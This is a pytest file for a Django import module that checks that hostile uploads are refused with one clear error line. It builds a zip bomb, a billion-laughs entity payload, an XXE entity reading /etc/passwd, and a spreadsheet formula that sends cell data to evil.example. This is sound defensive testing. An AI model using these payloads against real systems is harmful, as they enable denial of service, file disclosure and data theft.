"""Hostile and damaged files: zip bombs, XML entities, malformed XML, NaN cells, NUL bytes, mixed encodings.
Each is refused with one clear line naming the limit or the place, before it can cost memory."""

import io
import resource
import time
import zipfile

import openpyxl
import pytest

from recaudo.imports import reading
from recaudo.imports.services import ImportFileError
from recaudo.portfolio.models import Debtor

from .helpers import run, write

pytestmark = pytest.mark.django_db

ROWS = [["code", "name"], ["C1", "Ana"], ["C2", "Luis"]]


def workbook(path, rows=ROWS, **replace: bytes):
    """An XLSX written by openpyxl, with some parts replaced (keys: part names with / as __ and . as _)."""
    buffer = io.BytesIO()
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    wb.save(buffer)
    parts = {k.replace("__", "/").replace("_xml", ".xml"): v for k, v in replace.items()}
    if "xl/sharedStrings.xml" in parts:  # openpyxl writes inline strings: declare the part as Excel does
        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source:
            types, rels = source.read("[Content_Types].xml"), source.read("xl/_rels/workbook.xml.rels")
        parts["[Content_Types].xml"] = types.replace(b"</Types>", (
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument'
            b'.spreadsheetml.sharedStrings+xml"/></Types>'))
        parts["xl/_rels/workbook.xml.rels"] = rels.replace(b"</Relationships>", (
            b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, parts.pop(info.filename, None) or source.read(info.filename))
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def shared_strings(count: int, text: bytes = b"") -> bytes:
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats'
            b'.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (count, count))
    return head + b"<si><t>" + text + b"</t></si>" + b"<si><t/></si>" * (count - 1) + b"</sst>"


def test_a_plain_workbook_still_imports(portfolio, tmp_path):
    assert run(portfolio, "debtors", workbook(tmp_path / "ok.xlsx")).created == 2


def test_a_shared_strings_bomb_is_refused_before_parsing(portfolio, tmp_path):
    # 6 million empty strings: 78 MB of XML in a zip of about 80 KB (the file had 60 million)
    path = workbook(tmp_path / "bomb.xlsx", xl__sharedStrings_xml=shared_strings(6_000_000))
    assert path.stat().st_size < 1 << 20
    before, started = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    with pytest.raises(ImportFileError, match=r"bomb.xlsx: la parte xl/sharedStrings.xml está comprimida [\d.]+ a 1; "
                                              r"el límite es 100 a 1 \(¿una bomba zip\?\)"):
        run(portfolio, "debtors", path)
    assert time.monotonic() - started < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024  # KB: under 100 MB more


def test_too_many_shared_strings_are_refused(portfolio, tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "XLSX_MAX_SHARED_STRINGS", 10)
    path = workbook(tmp_path / "many.xlsx", xl__sharedStrings_xml=shared_strings(11))
    with pytest.raises(ImportFileError, match=r"many.xlsx contiene más de 10 textos distintos \(cadenas compartidas\)"):
        run(portfolio, "debtors", path)
    monkeypatch.setattr(reading, "XLSX_MAX_SHARED_STRINGS", 11)
    assert run(portfolio, "debtors", path).created == 2
    # counted wherever the part is (the workbook's rels may name any part as its shared strings)
    monkeypatch.setattr(reading, "XLSX_MAX_SHARED_STRINGS", 10)
    with pytest.raises(ImportFileError, match=r"other.xlsx contiene más de 10 textos distintos"):
        run(portfolio, "debtors", workbook(tmp_path / "other.xlsx", xl__strings_xml=shared_strings(11)))


def test_one_huge_string_is_refused_by_the_part_limit(portfolio, tmp_path):
    # one string of 101 MB (the file had 1 GB): over the 100 MB limit of a part loaded whole
    path = workbook(tmp_path / "big.xlsx", xl__sharedStrings_xml=shared_strings(1, b"A" * (101 << 20)))
    with pytest.raises(ImportFileError, match=r"big.xlsx: la parte xl/sharedStrings.xml se descomprime a 101 MB; "
                                              r"el límite es 100 MB"):
        run(portfolio, "debtors", path)


def test_total_uncompressed_size_is_capped(portfolio, tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "XLSX_MAX_TOTAL", 4096)
    with pytest.raises(ImportFileError, match=r"total.xlsx se descomprime a 0 MB; el límite para un libro XLSX es "
                                              r"0 MB"):
        run(portfolio, "debtors", workbook(tmp_path / "total.xlsx"))


BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
                             for n in range(1, 10))
                  + b']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t>'
                    b'</si></sst>')
XXE = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- harmless -->\n<!DOCTYPE worksheet [<!ENTITY x SYSTEM '
       b'"file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
       b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>')


@pytest.mark.parametrize("part, data", [("xl__sharedStrings_xml", BILLION_LAUGHS),
                                        ("xl__worksheets__sheet1_xml", XXE),
                                        ("xl__workbook_xml", b"\xff\xfe<\x00w\x00")])
def test_xml_with_a_document_type_or_not_utf8_is_refused(portfolio, tmp_path, part, data):
    name = part.replace("__", "/").replace("_xml", ".xml")
    with pytest.raises(ImportFileError, match=rf"x.xlsx: la parte {name} declara un tipo de documento o entidades"):
        run(portfolio, "debtors", workbook(tmp_path / "x.xlsx", **{part: data}))


def test_malformed_sheet_xml_is_one_clear_line(portfolio, tmp_path):
    sheet = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b'<dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c>'
             b'<c r="B1" t="inlineStr"><is><t>name</t></is></c></row>'
             b'<row r="2"><c r="A2" t="inlineStr"><is><t>C1</t></c></row>')
    with pytest.raises(ImportFileError, match=r"bad.xlsx, hoja 'Sheet', después de la fila 1: el libro está dañado "
                                              r"\(ParseError\); expórtelo de nuevo como .xlsx o como CSV"):
        run(portfolio, "debtors", workbook(tmp_path / "bad.xlsx", xl__worksheets__sheet1_xml=sheet))
    with pytest.raises(ImportFileError, match=r"bad.xlsx is not a readable XLSX workbook \(ParseError\)"):
        run(portfolio, "debtors", workbook(tmp_path / "bad.xlsx", xl__workbook_xml=b"<workbook><sheets>"))


def _number_sheet(raw: bytes) -> bytes:
    return (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c><c r="B1" t="inlineStr"><is>'
            b'<t>name</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>C1</t></is></c><c r="B2">'
            b"<v>" + raw + b"</v></c></row></sheetData></worksheet>")


@pytest.mark.parametrize("raw, message", [
    (b"NaN", r"nan.xlsx, hoja 'Sheet', celda B2: el valor 'NaN' no es un número"),
    (b"inf", r"nan.xlsx, hoja 'Sheet', celda B2: el valor 'inf' no es un número"),
    (b"1E+999", r"nan.xlsx, hoja 'Sheet', fila 2, columna \"name\": la celda contiene inf, que no se puede importar"),
])
def test_nan_and_infinite_cells_are_refused_with_their_place(portfolio, tmp_path, raw, message):
    with pytest.raises(ImportFileError, match=message):
        run(portfolio, "debtors", workbook(tmp_path / "nan.xlsx", xl__worksheets__sheet1_xml=_number_sheet(raw)))
    assert not Debtor.objects.exists()


def test_a_nul_byte_after_the_first_64_kb_is_refused_with_row_and_column(portfolio, tmp_path):
    lines = ["code,name"] + [f"C{n},Name {n}" for n in range(8000)]
    lines[7000] = "C7000,Na\x00me"
    path = write(tmp_path, "\n".join(lines) + "\n", name="nul.csv")
    assert path.read_bytes().index(b"\x00") > 65536
    with pytest.raises(ImportFileError, match=r'nul.csv, fila 7001, columna "name": el valor contiene un carácter NUL'):
        run(portfolio, "debtors", path)
    assert not Debtor.objects.exists()


def test_a_utf8_file_with_one_latin1_line_is_refused_naming_the_line(portfolio, tmp_path):
    content = "code,name\nC1,José Peña\nC2,Muñoz\n".encode() + "C3,Núñez\n".encode("latin-1") + b"C4,Ana\n"
    path = write(tmp_path, content, name="mixed.csv")
    with pytest.raises(ImportFileError, match=r"mixed.csv, línea 4: esta línea no está en UTF-8 pero el resto del "
                                              r"archivo sí \(codificaciones mezcladas\)"):
        run(portfolio, "debtors", path)
    assert not Debtor.objects.exists()


def test_plain_latin1_and_utf8_files_still_read(portfolio, tmp_path):
    path = write(tmp_path, "code,name\nC1,José Peña\nC2,Muñoz\n", name="l.csv", encoding="cp1252")
    assert run(portfolio, "debtors", path).created == 2
    path = write(tmp_path, "code,name\nC3,Núñez\n", name="u.csv")
    assert run(portfolio, "debtors", path).created == 1
    assert sorted(Debtor.objects.values_list("name", flat=True)) == ["José Peña", "Muñoz", "Núñez"]


def test_the_rejected_rows_csv_never_carries_a_formula(portfolio, tmp_path):
    import csv

    content = ('number,debtor_code,debtor_name,issue_date,due_date,amount\n'
               'F-1,C1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")",01/01/2026,31/02/2026,100\n'
               'F-2,C1,Ana,01/01/2026,31/01/2026,@SUM(1)\n')
    rejected = tmp_path / "rejected.csv"
    result = run(portfolio, "obligations", write(tmp_path, content), skip_invalid=True, rejected_path=rejected)
    assert result.rejected == 2
    with rejected.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][2] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ver\")" and rows[1][4] == "31/02/2026"
    assert rows[2][5] == "'@SUM(1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


HOSTILE = {
    "bomb.xlsx": lambda p: workbook(p, xl__sharedStrings_xml=shared_strings(1_000_000)),
    "laughs.xlsx": lambda p: workbook(p, xl__sharedStrings_xml=BILLION_LAUGHS),
    "xxe.xlsx": lambda p: workbook(p, xl__worksheets__sheet1_xml=XXE),
    "broken.xlsx": lambda p: workbook(p, xl__workbook_xml=b"<workbook><sheets>"),
    "nan.xlsx": lambda p: workbook(p, xl__worksheets__sheet1_xml=_number_sheet(b"NaN")),
    "nul.csv": lambda p: p.write_bytes(b"code,name\n" + b"C1,Ana\n" * 10_000 + b"C2,A\x00B\n") and p,
    "mixed.csv": lambda p: p.write_bytes("code,name\nC1,José\n".encode() + "C2,José\n".encode("latin-1")) and p,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_give_one_line_on_the_command_line_and_a_clear_failure_on_the_web(portfolio, tmp_path, name):
    from io import StringIO

    from django.core.management import call_command

    from recaudo.imports.models import ImportJob
    from recaudo.imports.tasks import run_import_job

    path = tmp_path / name
    HOSTILE[name](path)
    out, err = StringIO(), StringIO()
    with pytest.raises(SystemExit) as exit_status:
        call_command("import_data", "debtors", str(path), "--portfolio", "pyme", stdout=out, stderr=err)
    assert exit_status.value.code == 2 and out.getvalue() == ""
    lines = err.getvalue().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {name}") and "Traceback" not in lines[0]
    job = ImportJob.objects.create(portfolio=portfolio, kind="debtors", filename=name, stored_path=str(path))
    run_import_job.enqueue(job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and job.message == lines[0].removeprefix("error: ")
    assert "internal error" not in job.message and not Debtor.objects.exists()
